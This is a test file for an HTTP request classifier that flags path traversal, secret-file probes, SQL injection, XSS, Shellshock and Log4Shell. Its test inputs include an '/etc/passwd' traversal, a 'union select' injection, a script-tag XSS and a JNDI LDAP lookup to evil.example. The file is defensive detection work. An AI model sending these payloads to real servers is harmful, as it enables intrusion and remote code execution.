import { describe, expect, it } from 'vitest';
import { classify, type RequestFacts } from '../src/index.js';

// A request sent as to a proxy names a host before its path: `GET http://win.ini/ HTTP/1.1` (absolute form, which
// Node hands on as the request's url) or `CONNECT win.ini:443`. The host is a name, not a file on any disk: the
// file and path rules read the path and query after it, as a WAF reads only the request's file name and arguments.
const CHROME =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

function signals(path: string, extra: Partial<RequestFacts> = {}): string[] {
  return classify({ method: 'GET', path, userAgent: CHROME, ...extra }).signals;
}

describe('the host of a request target', () => {
  it('is not read for files, however the name is spelt', () => {
    for (const target of [
      'http://win.ini/',
      'http://win.ini',
      'HTTP://WIN.INI/',
      'https://boot.ini:8443/index.html',
      'http://user@win.ini/',
      'http://system32/',
      'http://global.asa/about',
    ])
      expect(signals(target), target).toEqual(['malformed-request']);
  });

  it('is not read for probes of products or secrets', () => {
    for (const target of ['http://phpmyadmin/', 'http://wp-login.php/', 'http://.env/', 'http://cmd.exe/'])
      expect(signals(target), target).toEqual(['malformed-request']);
  });

  it('of CONNECT is a host and port, not a file', () => {
    for (const target of ['win.ini:443', 'boot.ini:443', 'phpmyadmin:80'])
      expect(signals(target, { method: 'CONNECT' }), target).toEqual(['bad-method']);
  });

  it('nor in the Host header, which only tells internal referers from external ones', () => {
    expect(signals('/', { host: 'win.ini', status: 200 })).toEqual([]);
    expect(signals('/', { host: 'win.ini', referer: 'http://win.ini/', status: 200 })).toEqual([]);
  });
});

describe('the path and query after the host', () => {
  it('are read as those of any request', () => {
    expect(signals('http://shop.example/win.ini')).toEqual(['path-traversal', 'malformed-request']);
    expect(signals('http://shop.example/../../etc/passwd')).toEqual(['path-traversal', 'malformed-request']);
    expect(signals('http://shop.example/', { query: 'file=c:/windows/win.ini' })).toEqual([
      'path-traversal',
      'malformed-request',
    ]);
    expect(signals('http://shop.example/download?file=boot.ini')).toEqual([
      'path-traversal',
      'malformed-request',
    ]);
    expect(signals('http://shop.example/.env')).toEqual(['sensitive-file', 'malformed-request']);
    expect(signals('http://shop.example/wp-login.php')).toEqual(['wordpress-probe', 'malformed-request']);
    expect(signals('http://shop.example/item?id=1 union select 1')).toContain('sql-injection');
  });

  it('count for a 404 as the page that was asked for', () => {
    // A page referring to itself is no link; the path compared is the one after the host.
    expect(
      signals('http://shop.example/hidden', {
        host: 'shop.example',
        referer: 'http://shop.example/hidden',
        status: 404,
      }),
    ).toEqual(['malformed-request', 'not-found-probe']);
    expect(
      signals('http://shop.example/hidden', {
        host: 'shop.example',
        referer: 'http://shop.example/blog',
        status: 404,
      }),
    ).toEqual(['malformed-request']);
  });

  it('while a payload in the host is still found', () => {
    expect(signals('http://${jndi:ldap://evil.example/a}/')).toContain('log4shell');
    expect(signals('http://<script>alert(1)</script>/')).toContain('xss');
    expect(signals('http://() { :; }; echo/')).toContain('shellshock');
  });
});
